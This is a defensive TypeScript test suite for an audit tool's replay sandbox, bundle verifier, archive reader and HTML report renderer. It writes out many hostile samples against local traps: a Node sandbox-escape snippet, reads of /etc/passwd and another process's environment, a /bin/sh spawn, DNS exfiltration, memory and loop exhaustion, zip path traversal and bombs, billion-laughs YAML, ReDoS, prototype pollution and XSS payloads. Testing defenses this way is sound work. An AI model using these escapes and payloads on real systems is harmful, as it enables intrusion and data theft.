import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BundleFile, type BundleFiles, bytesOf, readBundle, textOf, unpackBundle } from '../../audit/bundle.ts';
import { readKey } from '../../audit/keys.ts';
import { codeHash, type Replay, replayWithin } from '../../audit/replay.ts';
import { type IncidentReport, reportHtml } from '../../audit/report.ts';
import { signerFrom } from '../../audit/signing.ts';
import { openStatement, sealBundle } from '../../audit/statement.ts';
import { verifyBundle } from '../../audit/verify.ts';
import { codeOf } from '../../domain/errors.ts';
import { PayloadType } from '../../domain/record.ts';
import type { Trust } from '../../domain/trust.ts';
import { workflowCode } from '../../workers/bundle.ts';
import { manifests, play } from '../audit/engine.ts';
import { leastHistory as history } from '../audit/least-history.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
let home: string;
let code: string;

/** What the world outside sees: connections, datagrams, files, and whether a process that was there still is. */
const seen = { connections: 0, datagrams: 0 };
const trap = createServer((socket) => {
  seen.connections++;
  socket.destroy();
});
const datagrams = createSocket('udp4', () => {
  seen.datagrams++;
});
let sentinel: ChildProcess;
const port = (): number => (trap.address() as { port: number }).port;

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'malicious-'));
  code = (await workflowCode()).code;
  await new Promise<void>((done) => trap.listen(0, '127.0.0.1', done));
  await new Promise<void>((done) => datagrams.bind(0, '127.0.0.1', done));
  sentinel = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' });
}, 60_000);
afterAll(() => {
  trap.close();
  datagrams.close();
  sentinel.kill('SIGKILL');
  rmSync(home, { recursive: true, force: true });
});

/** Everything below a folder, by name, size and time. */
function snapshot(folder: string): string[] {
  return readdirSync(folder, { recursive: true })
    .map((name) => {
      const { size, mtimeMs } = lstatSync(join(folder, String(name)));
      return `${name} ${size} ${mtimeMs}`;
    })
    .sort();
}

/**
 * What somebody would try who got out of Temporal's sandbox, each as the body of a function of `require`, `process` and `want` (port, udp, folder, pid, root). `control` says that the same
 * does something in a Node without our doors: otherwise a row would show nothing.
 */
interface Worst {
  readonly body: string;
  /** What it leaves where nothing stops it. */
  readonly control?: 'connection' | 'datagram' | 'file' | 'done';
}
const worker = (inner: string): string =>
  `new (require('node:worker_threads').Worker)(${JSON.stringify(inner)}, { eval: true, execArgv: [] })`;
const worsts: Readonly<Record<string, Worst>> = {
  'net.connect': { body: `require('node:net').connect(want.port, '127.0.0.1')`, control: 'connection' },
  'http.get': { body: `require('node:http').get('http://127.0.0.1:' + want.port + '/')`, control: 'connection' },
  'https.get': { body: `require('node:https').get('https://127.0.0.1:' + want.port + '/')`, control: 'connection' },
  'http2.connect': { body: `require('node:http2').connect('http://127.0.0.1:' + want.port)`, control: 'connection' },
  'tls.connect': { body: `require('node:tls').connect(want.port, '127.0.0.1')`, control: 'connection' },
  fetch: { body: `globalThis.fetch('http://127.0.0.1:' + want.port + '/').catch(() => {})`, control: 'connection' },
  WebSocket: { body: `new globalThis.WebSocket('ws://127.0.0.1:' + want.port + '/')`, control: 'connection' },
  'a dispatcher of fetch': {
    body: `try { void globalThis.fetch } catch {}; const d = globalThis[Symbol.for('undici.globalDispatcher.1')]; if (!d) throw new Error('none'); d.dispatch({ origin: 'http://127.0.0.1:' + want.port, path: '/', method: 'GET' }, {})`,
  },
  'dynamic import of net': {
    body: `process.getBuiltinModule('node:vm').runInThisContext('import("node:net")', { importModuleDynamically: process.getBuiltinModule('node:vm').constants.USE_MAIN_CONTEXT_DEFAULT_LOADER }).then((net) => net.connect(want.port, '127.0.0.1'))`,
    control: 'connection',
  },
  'net.createServer': { body: `require('node:net').createServer().listen(0)`, control: 'done' },
  'a server handle': {
    body: `const h = require('node:net')._createServerHandle('127.0.0.1', 0, 4); if (typeof h === 'number') throw new Error('none'); h.listen(1)`,
    control: 'done',
  },
  'dgram.send': { body: `require('node:dgram').createSocket('udp4').send('x', want.udp, '127.0.0.1')`, control: 'datagram' },
  'a datagram handle': {
    body: `const h = require('node:dgram')._createSocketHandle('127.0.0.1', 0, 'udp4'); if (typeof h === 'number') throw new Error('none')`,
    control: 'done',
  },
  'a resolver of its own': {
    body: `const r = new (require('node:dns').Resolver)(); r.setServers(['127.0.0.1:' + want.udp]); r.resolve4('secret.example', () => {})`,
    control: 'datagram',
  },
  'a resolver of promises': {
    body: `const r = new (require('node:dns').promises.Resolver)(); r.setServers(['127.0.0.1:' + want.udp]); r.resolve4('secret.example').catch(() => {})`,
    control: 'datagram',
  },
  'a thread without the doors': { body: worker(`require('node:net').connect(${'WANTPORT'}, '127.0.0.1')`), control: 'connection' },
  'hooks of the module loader': {
    body: `require('node:module').register('data:text/javascript,' + encodeURIComponent("import net from 'node:net'; net.connect(" + want.port + ", '127.0.0.1'); export const load = (u, c, n) => n(u, c)"))`,
  },
  'the inspector': {
    body: `require('node:inspector').open(0, '127.0.0.1'); if (!require('node:inspector').url()) throw new Error('none')`,
    control: 'done',
  },
  'a session of the inspector': { body: `const s = new (require('node:inspector').Session)(); s.connect()`, control: 'done' },
  'process.binding': { body: `process.binding('tcp_wrap').TCP.name`, control: 'done' },
  'process._linkedBinding': { body: `process._linkedBinding('nothing')` },
  'what it may: the time of day': {
    body: `if (typeof require(want.root + 'node_modules/@temporalio/core-bridge').native.getTimeOfDay() !== 'bigint') throw new Error('none')`,
  },
  "a client of Temporal's native library": {
    body: `const { native } = require(want.root + 'node_modules/@temporalio/core-bridge'); if (typeof native.newClient !== 'function') throw new Error('none'); native.newClient({}, {})`,
  },
  "a runtime of Temporal's native library that listens": {
    body: `const { native } = require(want.root + 'node_modules/@temporalio/core-bridge'); native.newRuntime({ telemetryOptions: { logging: { filter: 'OFF', forward: {} } } })`,
  },
  'a native library from the bundle': { body: `process.dlopen({ exports: {} }, want.folder + '/evil.node')` },
  writeFileSync: { body: `require('node:fs').writeFileSync(want.folder + '/w1', 'x')`, control: 'file' },
  openSync: { body: `require('node:fs').openSync(want.folder + '/w2', 'w')`, control: 'file' },
  mkdirSync: { body: `require('node:fs').mkdirSync(want.folder + '/w3')`, control: 'file' },
  symlinkSync: { body: `require('node:fs').symlinkSync('/etc', want.folder + '/w4')`, control: 'file' },
  'a heap snapshot': { body: `require('node:v8').writeHeapSnapshot(want.folder + '/w5')`, control: 'file' },
  'a diagnostic report': { body: `process.report.directory = want.folder; process.report.writeReport('w6.json')`, control: 'file' },
  sqlite: {
    body: `const d = new (require('node:sqlite').DatabaseSync)(want.folder + '/w7'); d.exec('create table t (x)'); d.close()`,
    control: 'file',
  },
  'a file of the machine': { body: `require('node:fs').readFileSync('/etc/passwd', 'utf8').slice(0, 4)`, control: 'done' },
  'the environment of the process above': {
    body: `require('node:fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8').length`,
    control: 'done',
  },
  'the environment': {
    body: `if (!process.env.TOURNIQUET_TEST_CANARY) throw new Error('none'); process.env.TOURNIQUET_TEST_CANARY`,
    control: 'done',
  },
  'a child': { body: `require('node:child_process').execFileSync('/bin/sh', ['-c', 'echo x > ' + want.folder + '/w8'])`, control: 'file' },
  'a fork': { body: `require('node:cluster').fork()` },
  'a signal to another process': { body: `process.kill(want.pid, 'SIGUSR2')`, control: 'done' },
  'a raw signal to another process': { body: `if (process._kill(want.pid, 12) !== 0) throw new Error('none')`, control: 'done' },
  'a debugger in another process': { body: `process._debugProcess(want.pid)`, control: 'done' },
  'the priority of another process': { body: `require('node:os').setPriority(want.pid, 19)`, control: 'done' },
  wasi: { body: `new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': want.folder } })`, control: 'done' },
};

const wanted = (pid: number, folder: string): string => JSON.stringify({ port: port(), udp: datagrams.address().port, folder, pid, root });
const bodyOf = (worst: Worst): string => worst.body.replaceAll('WANTPORT', String(port()));

/** The engine's own code with something in front that gets out of the sandbox, tries each, and says how each went in a letter: D done, R refused. */
function outOf(tries: readonly Worst[], folder: string, before = code): string {
  return `
  let said = 'no way out';
  for (const bridge of Object.getOwnPropertyNames(globalThis)) {
    try {
      const outside = globalThis[bridge].constructor.constructor;
      const process = outside('return process')();
      for (const fault of ['uncaughtException', 'unhandledRejection']) process.on(fault, () => {});
      said = outside('process', 'want', 'bodies', \`
        const require = process.getBuiltinModule('node:module').createRequire(want.root);
        return bodies.map((body) => {
          try { new Function('require', 'process', 'want', body)(require, process, want); return 'D'; } catch (error) { return 'R'; }
        }).join('');
      \`)(process, ${wanted(sentinel.pid ?? 0, folder)}, ${JSON.stringify(tries.map(bodyOf))});
      break;
    } catch {}
  }
  throw new Error('SAID ' + said);
${before}`;
}

const full = process.env.TOURNIQUET_FULL === '1';
const node22 = process.env.TOURNIQUET_NODE22;

describe('code that got out of the sandbox', { timeout: 240_000 }, () => {
  const table: Record<string, Record<string, string>> = {};
  afterAll(() => console.table(table));

  it('does each of these where nothing stops it, so that a row below means something', async () => {
    for (const [name, worst] of Object.entries(worsts)) {
      if (worst.control === undefined || (!full && worst.control === 'done')) continue;
      const folder = mkdtempSync(join(home, 'control-'));
      const before = { ...seen };
      const victim = spawn(process.execPath, ['-e', 'process.on("SIGUSR2", () => {}); setInterval(() => {}, 1000)'], { stdio: 'ignore' });
      const want = wanted(victim.pid ?? 0, folder);
      const script = `const want = ${want}; (async () => { ${bodyOf(worst)} })().then(() => { console.log('D'); setTimeout(() => process.exit(0), 400); }, (error) => { console.log('R', error); process.exit(0); }); process.on('uncaughtException', () => {});`;
      const child = spawn(process.execPath, ['--no-warnings', '-e', script], {
        env: { ...process.env, TOURNIQUET_TEST_CANARY: 'seen' },
        cwd: folder,
      });
      let out = '';
      child.stdout.on('data', (chunk) => {
        out += chunk;
      });
      await new Promise((done) => child.once('close', done));
      victim.kill('SIGKILL');
      const did = {
        connection: seen.connections > before.connections,
        datagram: seen.datagrams > before.datagrams,
        file: readdirSync(folder).length > 0,
        done: out.startsWith('D'),
      };
      table[name] = { 'without doors': worst.control };
      expect({ name, out: out.slice(0, 200), did: did[worst.control] }).toMatchObject({ did: true });
    }
  });

  it.each(node22 === undefined ? [process.execPath] : [process.execPath, node22])('does none of them in a replay (%s)', async (node) => {
    const folder = mkdtempSync(join(home, 'replay-'));
    writeFileSync(join(folder, 'evil.node'), 'no library');
    process.env.TOURNIQUET_TEST_CANARY = 'a-canary-in-the-environment';
    const before = { ...seen, files: snapshot(home) };
    const outcome = await replayWithin({ node })({ code: outOf(Object.values(worsts), folder), history, workflowId: 'leak/x' });
    delete process.env.TOURNIQUET_TEST_CANARY;
    const letters = outcome.error?.match(/SAID ([DR]+)/)?.[1] ?? outcome.error ?? '';
    // Nothing is connected to, sent to, written or ended. Some calls are answered and do nothing: they say so only later.
    await new Promise((done) => setTimeout(done, 300));
    expect({ ...seen, files: snapshot(home) }).toEqual(before);
    expect(sentinel.exitCode).toBeNull();
    expect(sentinel.signalCode).toBeNull();
    expect(JSON.stringify(outcome)).not.toMatch(/root:|a-canary/);
    expect(letters).toHaveLength(Object.keys(worsts).length);
    const rows = Object.keys(worsts).map((name, index) => [name, letters[index] === 'R' ? 'refused' : 'answered, did nothing'] as const);
    for (const [name, how] of rows)
      table[name] = { ...table[name], [node === process.execPath ? 'in a replay' : 'in a replay on Node 22']: how };
    // What is answered at once must be a call that tells of its failure later.
    const later = /^(http\.get|https\.get|http2\.connect|fetch|WebSocket|a dispatcher|dynamic import|tls\.connect|dgram\.send|a fork)/;
    // The one row that is allowed shows that the others are refused for what they ask, and not for how.
    const wrong = rows.filter(([name, how]) => how !== 'refused' && !later.test(name));
    expect(wrong).toEqual([['what it may: the time of day', 'answered, did nothing']]);
  });

  it('is ended when it loops for ever, eats memory beside the heap or in it, or talks without end', async () => {
    const first = (body: string): string => `
      for (const bridge of Object.getOwnPropertyNames(globalThis)) {
        try { globalThis[bridge].constructor.constructor('return process')(); var outside = globalThis[bridge].constructor.constructor; break; } catch {}
      }
      ${body}\n${code}`;
    const rows: Record<string, readonly [string, Replay]> = {
      'a loop': [first('for (;;) {}'), replayWithin({ timeoutMs: 6_000 })],
      'a loop in a promise': [first(`(async () => { for (;;) await null; })();`), replayWithin({ timeoutMs: 6_000 })],
      'memory of WebAssembly': [
        first(
          `outside('const kept = []; for (;;) { const m = new WebAssembly.Memory({ initial: 1000 }); new Uint8Array(m.buffer).fill(1); kept.push(m); }')();`,
        ),
        replayWithin({ memoryBytes: 900 * 1024 ** 2, timeoutMs: 60_000 }),
      ],
      'memory of buffers': [
        first(`outside('const kept = []; for (;;) kept.push(new Uint8Array(50000000).fill(1))')();`),
        replayWithin({ memoryBytes: 900 * 1024 ** 2, timeoutMs: 60_000 }),
      ],
      'memory of the heap': [first(`const kept = []; for (;;) kept.push({ some: [kept.length] });`), replayWithin({ timeoutMs: 60_000 })],
      'talk without end': [
        first(
          `outside('const fs = process.getBuiltinModule("node:fs"); const line = "x".repeat(100000); for (;;) try { fs.writeSync(1, line) } catch {}')();`,
        ),
        replayWithin({ outputBytes: 10_000_000, timeoutMs: 60_000 }),
      ],
    };
    const chosen = full
      ? Object.entries(rows)
      : Object.entries(rows).filter(([name]) => ['a loop', 'memory of buffers', 'talk without end'].includes(name));
    const said = Object.fromEntries(
      await Promise.all(
        chosen.map(async ([name, [evil, replay]]) => [name, (await replay({ code: evil, history, workflowId: 'leak/x' })).error ?? '']),
      ),
    );
    console.table(said);
    for (const [name, words] of Object.entries(said)) expect([name, words]).toEqual([name, expect.stringMatching(/ended|heap|memory/i)]);
  });
});

describe('code in a bundle', { timeout: 240_000 }, () => {
  let honest: { files: BundleFiles; trust: Trust; judge: string };
  let signed: (files: BundleFiles, evil: string) => BundleFiles;
  beforeAll(async () => {
    honest = await play('acme/private', async (played) => {
      await played.until((now) => now.gates.some((gate) => gate.state === 'open'));
      const { files } = await played.export(false);
      return { files, trust: played.trust.trust, judge: JSON.stringify(played.trust.paths.judge) };
    });
    const signer = signerFrom(readKey(join(JSON.parse(honest.judge), 'signing.json')));
    signed = (files, evil) => {
      const rest = new Map([...files].filter(([path]) => path !== BundleFile.STATEMENT));
      rest.set(BundleFile.CODE, bytesOf(evil));
      const { predicate } = openStatement(files).statement;
      return sealBundle(rest, { ...predicate, code: codeHash(evil) }, (statement) => signer.sign(PayloadType.STATEMENT, statement));
    };
  }, 120_000);

  it('of a hash that nobody knows is never run, though a judge signed for the bundle', async () => {
    const folder = mkdtempSync(join(home, 'unknown-'));
    const files = signed(honest.files, outOf(Object.values(worsts), folder, textOf(honest.files.get(BundleFile.CODE))));
    const ran: string[] = [];
    const replay: Replay = async (input) => {
      ran.push(input.code);
      return { scheduled: [] };
    };
    const before = { ...seen, files: snapshot(home) };
    const release = await workflowCode();
    for (const trust of [honest.trust, undefined]) {
      const result = await verifyBundle(files, { manifests, release, replay, ...(trust && { trust }) });
      expect(result).toMatchObject({ verdict: 'consistent', code: 'audit.unknown-code' });
    }
    // Its own trust file names it, and that is no one's word.
    expect(ran).toEqual([]);
    expect({ ...seen, files: snapshot(home) }).toEqual(before);
  });

  it('of a hash that the trust file names does nothing either, and is found out', async () => {
    const folder = mkdtempSync(join(home, 'named-'));
    const files = signed(honest.files, outOf(Object.values(worsts), folder, textOf(honest.files.get(BundleFile.CODE))));
    const before = { ...seen, files: snapshot(home) };
    const trust = { ...honest.trust, serial: 2, code: [openStatement(files).statement.predicate.code] };
    const result = await verifyBundle(files, { manifests, release: await workflowCode(), replay: replayWithin({}), trust });
    expect(result.verdict).toBe('broken');
    expect(result.claims.find((claim) => claim.kind === 'replay')).toMatchObject({ ok: false, words: expect.stringMatching(/SAID [DR]+/) });
    expect({ ...seen, files: snapshot(home) }).toEqual(before);
  });

  it.each<[string, (files: Map<string, Uint8Array>) => void]>([
    ['JSON nested beyond any depth', (files) => files.set(BundleFile.CHAIN, bytesOf('['.repeat(200_000)))],
    [
      'a statement nested beyond any depth',
      (files) => files.set(BundleFile.STATEMENT, bytesOf(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}\n`)),
    ],
    ['a history nested beyond any depth', (files) => files.set(BundleFile.HISTORY, nested(20_000))],
    [
      'a trust file that unfolds without end',
      (files) =>
        files.set(
          BundleFile.TRUST,
          bytesOf(
            `a0: &a0 [x,x,x,x,x,x,x,x,x]\n${[...Array(12).keys()].map((n) => `a${n + 1}: &a${n + 1} [${Array(9).fill(`*a${n}`).join(',')}]`).join('\n')}\n`,
          ),
        ),
    ],
    ['a record that is no JSON', (files) => files.set(`records/${'0'.repeat(64)}.json`, new Uint8Array([0xff, 0xfe, 0]))],
    ['a record named like a device', (files) => files.set('records/CON', bytesOf('{}'))],
    ['a member named __proto__', (files) => files.set(BundleFile.CHAIN, bytesOf('[{"__proto__":{"polluted":true}}]\n'))],
    [
      'a policy with a pattern that takes for ever',
      (files) => {
        const path = [...files.keys()].find((each) => each.startsWith('policies/')) ?? '';
        files.set(path, bytesOf((textOf(files.get(path)) ?? '').replace(/when: .*/, `when: '"${'a'.repeat(60)}!".matches("^(a+)+$")'`)));
      },
    ],
  ])('%s breaks the bundle, and nothing else', async (name, spoil) => {
    const files = new Map(honest.files);
    spoil(files);
    const before = { ...seen, files: snapshot(home) };
    const { trust: _, ...rest } = { trust: honest.trust, manifests };
    for (const options of [{ ...rest, trust: honest.trust }, rest]) {
      const result = await verifyBundle(files, options);
      expect([name, result.verdict]).toEqual([name, 'broken']);
    }
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect({ ...seen, files: snapshot(home) }).toEqual(before);
  });
});

/** A failure within a failure within a failure, as protobuf. */
function nested(depth: number): Uint8Array {
  let bytes: Uint8Array<ArrayBufferLike> = new Uint8Array();
  const wrap = (field: number, inner: Uint8Array): Uint8Array => {
    const size: number[] = [];
    for (let left = inner.length; ; left >>>= 7) {
      size.push(left > 127 ? (left & 127) | 128 : left);
      if (left <= 127) break;
    }
    const tag = (field << 3) | 2;
    return Buffer.concat([Buffer.from(tag > 127 ? [(tag & 127) | 128, tag >>> 7] : [tag]), Buffer.from(size), inner]);
  };
  // Failure.cause is field 4; ActivityTaskFailed.failure 1; HistoryEvent.activity_task_failed 14; History.events 1.
  for (let n = 0; n < depth; n++) bytes = wrap(4, bytes);
  return wrap(1, wrap(14, wrap(1, bytes)));
}

interface Raw {
  readonly name: string | Buffer;
  readonly content?: Uint8Array;
  readonly declared?: number;
  readonly attributes?: number;
}

/** A zip file byte by byte, since no library writes one that lies. */
function zip(entries: readonly Raw[]): Uint8Array {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, content = bytesOf('x'), declared, attributes = 0 } of entries) {
    const path = Buffer.from(name as string);
    const packed = deflateRawSync(content);
    const size = declared ?? content.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(path.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(path.length, 28);
    central.writeUInt32LE(attributes >>> 0, 38);
    central.writeUInt32LE(at, 42);
    bodies.push(local, path, packed);
    directory.push(central, path);
    at += local.length + path.length + packed.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(at, 16);
  return new Uint8Array(Buffer.concat([...bodies, listed, end]));
}

describe('an archive that means ill', { timeout: 120_000 }, () => {
  const mega = 1024 * 1024;
  const rows: Readonly<Record<string, () => BundleFiles | undefined>> = {
    'a path upwards': () => unpackBundle(zip([{ name: '../escaped' }])),
    'a path upwards in the middle': () => unpackBundle(zip([{ name: 'records/../../escaped' }])),
    'an absolute path': () => unpackBundle(zip([{ name: '/tmp/escaped' }])),
    'a drive': () => unpackBundle(zip([{ name: 'C:\\escaped' }])),
    'a drive and a stream': () => unpackBundle(zip([{ name: 'a.json:stream' }])),
    backslashes: () => unpackBundle(zip([{ name: '..\\..\\escaped' }])),
    'a NUL': () => unpackBundle(zip([{ name: 'report.html\0.json' }])),
    'a name that is not ASCII': () => unpackBundle(zip([{ name: 'réport.json' }])),
    'a name of bytes that are no text': () => unpackBundle(zip([{ name: Buffer.from([0xff, 0xfe, 0x2f]) }])),
    'a hidden file': () => unpackBundle(zip([{ name: '.bashrc' }])),
    'a name of an object’s own': () => unpackBundle(zip([{ name: '__proto__' }])),
    'a name twice': () => unpackBundle(zip([{ name: 'chain.json' }, { name: 'chain.json', content: bytesOf('y') }])),
    'a size declared that is too large': () => unpackBundle(zip([{ name: 'chain.json', declared: 0xfffffffe }])),
    'sizes declared that are too large together': () =>
      unpackBundle(zip([...Array(6).keys()].map((n) => ({ name: `f${n}`, declared: 120 * mega })))),
    'a size declared that is smaller than it is': () =>
      unpackBundle(zip([{ name: 'chain.json', content: new Uint8Array(64 * mega), declared: 10 }])),
    'more entries than a bundle has': () =>
      unpackBundle(zip([...Array(25_000).keys()].map((n) => ({ name: `f${n}`, content: new Uint8Array() })))),
    'folders without end': () =>
      unpackBundle(zip([...Array(60_000).keys()].map((n) => ({ name: `f${n}/`, content: new Uint8Array(), declared: 0 })))),
    'a symbolic link as an entry': () =>
      unpackBundle(zip([{ name: 'report.html', content: bytesOf('/etc/passwd'), attributes: 0o120777 << 16 }])),
    'an archive in an archive': () => unpackBundle(zip([{ name: 'chain.json', content: zip([{ name: '../escaped' }]) }])),
    'a name like a device': () => unpackBundle(zip([{ name: 'CON' }, { name: 'nul.json' }])),
    'nothing at all': () => unpackBundle(new Uint8Array()),
    'a folder with a symbolic link': () => {
      symlinkSync('/etc/passwd', join(made('symbolic'), 'chain.json'));
      return readBundle(join(home, 'symbolic'));
    },
    'a folder with a symbolic link to a folder': () => {
      symlinkSync('/etc', join(made('folder-link'), 'records'));
      return readBundle(join(home, 'folder-link'));
    },
    'a folder that is a symbolic link': () => {
      symlinkSync('/etc', join(home, 'link'));
      return readBundle(join(home, 'link'));
    },
    'a folder with a pipe': () => {
      spawnSync('mkfifo', [join(made('pipe'), 'chain.json')]);
      return readBundle(join(home, 'pipe'));
    },
    'a folder with a file that is too large': () => {
      writeFileSync(join(made('large'), 'chain.json'), '');
      truncateSync(join(home, 'large', 'chain.json'), 4 * 1024 * mega);
      return readBundle(join(home, 'large'));
    },
    'a folder deeper than a bundle': () => {
      mkdirSync(join(made('deep'), 'a/b/c/d/e'), { recursive: true });
      writeFileSync(join(home, 'deep', 'a/b/c/d/e/f'), '');
      return readBundle(join(home, 'deep'));
    },
    'a folder with a hard link': () => {
      writeFileSync(join(home, 'elsewhere'), 'somebody else’s');
      linkSync(join(home, 'elsewhere'), join(made('hard'), 'chain.json'));
      return readBundle(join(home, 'hard'));
    },
  };
  const made = (name: string): string => {
    mkdirSync(join(home, name));
    return join(home, name);
  };
  /** These are files as any other, in memory and nowhere else; the verifier refuses them for what they say. */
  const harmless = [
    'a symbolic link as an entry',
    'an archive in an archive',
    'a name like a device',
    'a folder with a hard link',
    'nothing at all',
    'folders without end',
  ];
  const table: Record<string, string> = {};
  afterAll(() => console.table(table));

  it.each(Object.keys(rows))('%s', async (name) => {
    let files: BundleFiles | undefined;
    let refused: string | undefined;
    const memory = process.memoryUsage().rss;
    try {
      files = rows[name]?.();
    } catch (error) {
      refused = codeOf(error);
    }
    // What a test builds in memory itself counts too, so only where it builds little.
    if (/declared|too large/.test(name)) expect(process.memoryUsage().rss - memory).toBeLessThan(400 * mega);
    if (refused !== undefined) {
      table[name] = `refused (${refused})`;
      expect(['audit.broken', 'file.unreadable', 'file.missing']).toContain(refused);
      return;
    }
    expect(harmless.includes(name) || name === 'a size declared that is smaller than it is').toBe(true);
    const result = await verifyBundle(files ?? new Map(), { manifests });
    table[name] = `read, and ${result.verdict}: ${result.claims.filter((claim) => !claim.ok).length} claims fail`;
    expect(result.verdict).toBe('broken');
    for (const path of ['escaped', '../escaped', '../../escaped'])
      expect(lstatSync(join(home, path), { throwIfNoEntry: false })).toBeUndefined();
  });
});

describe('a report that quotes a liar', () => {
  const lies = [
    `<script>fetch('http://127.0.0.1/')</script>`,
    `"><img src=x onerror=alert(1)>`,
    `' onmouseover='alert(1)`,
    `</title></style></textarea><svg/onload=alert(1)>`,
    `<!--<iframe src=javascript:alert(1)>`,
    `<meta http-equiv=refresh content="0;url=http://127.0.0.1/">`,
    `&lt;script&gt;&#60;script&#62;`,
    `\u2028<a href="javascript:alert(1)">\u0000</a>`,
    `]]><script>1</script>`,
  ];
  /** A report all of whose texts are the same lie. */
  function lying(lie: string): IncidentReport {
    const list = <T>(value: T): T[] => [value];
    return {
      v: 1,
      engine: lie,
      incident: lie,
      run: lie,
      title: lie,
      state: lie,
      contained: lie,
      rotated: lie,
      rounds: 1,
      head: `sha256:${lie}`,
      clocks: { leakedAt: lie, seenAt: lie, reportedAt: lie, firstChangeAt: lie, containedAt: lie, rotatedAt: lie, endedAt: lie },
      spans: list({ what: lie, from: lie, to: lie, seconds: 1 }),
      sightings: list({ reporter: lie, format: lie, where: lie, proof: lie, seenAt: lie, record: lie as never }),
      timeline: list({ at: lie, who: lie, what: lie, record: lie as never }),
      changes: list({
        round: 1,
        step: lie,
        title: lie,
        action: lie,
        target: { [lie]: lie },
        direction: lie,
        outcome: lie,
        inEffect: lie,
        clocks: { acceptedAt: lie, effectiveAt: lie, descendantsDieAt: lie },
        requestIds: [lie],
        record: lie as never,
      }),
      consumers: list({ consumer: lie, name: lie, owner: lie, predicted: lie, measured: lie }),
      decisions: [
        { at: lie, by: lie, verdict: lie, gate: lie, accepted: false, code: lie, why: lie, record: lie as never },
        { at: lie, by: lie, verdict: lie, gate: lie, accepted: true, why: lie, record: lie as never },
      ],
      gates: list({ at: lie, gate: lie, event: lie, deadlineAt: lie, onSilence: lie, told: [lie], record: lie as never }),
      refusals: list({ at: lie, code: lie, attempted: lie, words: lie, record: lie as never }),
      credentials: list({ credential: lie, live: lie }),
      residuals: [
        { what: lie, target: lie, until: lie },
        { what: lie, target: lie, acceptedBy: lie },
      ],
      blind: [lie],
      mapping: list({ framework: lie, control: lie, how: lie }),
    };
  }
  /** Every tag that the page itself has, with every attribute; a parser would see exactly these. */
  const tagsOf = (html: string): string[] => [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag.replace(/ title="[^"<>]*"/, ' title=""'));

  it.each(lies)('%s', (lie) => {
    const page = reportHtml(lying(lie));
    const plain = reportHtml(lying('a word'));
    expect(tagsOf(page)).toEqual(tagsOf(plain));
    const allowed =
      /^<(!doctype html|\/?(html|head|body|section|table|thead|tbody|tr|td|th|ul|li|h1|h2|p|code|span|title|style|br|meta)( (lang="en"|charset="utf-8"|name="viewport" content="width=device-width"|scope="col"|class="(quiet|refused)"|title=""|http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"))*)>$/;
    expect(tagsOf(page).filter((tag) => !allowed.test(tag))).toEqual([]);
    // And by a parser that is somebody else's.
    const script = `
import json, sys
from html.parser import HTMLParser
class P(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True); self.out = []
    def handle_starttag(self, tag, attrs): self.out.append([tag, sorted(name for name, _ in attrs)])
    def handle_comment(self, text): self.out.append(['!--', []])
    def handle_pi(self, text): self.out.append(['?', []])
    def unknown_decl(self, text): self.out.append(['!', []])
p = P(); p.feed(sys.stdin.read()); print(json.dumps(p.out))
`;
    const parsed = [page, plain].map((html) => {
      const ran = spawnSync('python3', ['-c', script], {
        input: html,
        encoding: 'utf8',
        env: { PATH: process.env.PATH ?? '', PYTHONIOENCODING: 'utf-8', PYTHONUTF8: '1' },
      });
      return ran.error ? undefined : ran.stdout;
    });
    expect(parsed[0]).toBe(parsed[1]);
    for (const tag of ['script', 'iframe', 'img', 'svg', 'object', 'embed', 'base', 'link', 'form'])
      expect(parsed[0] ?? '').not.toContain(`["${tag}"`);
  });
});
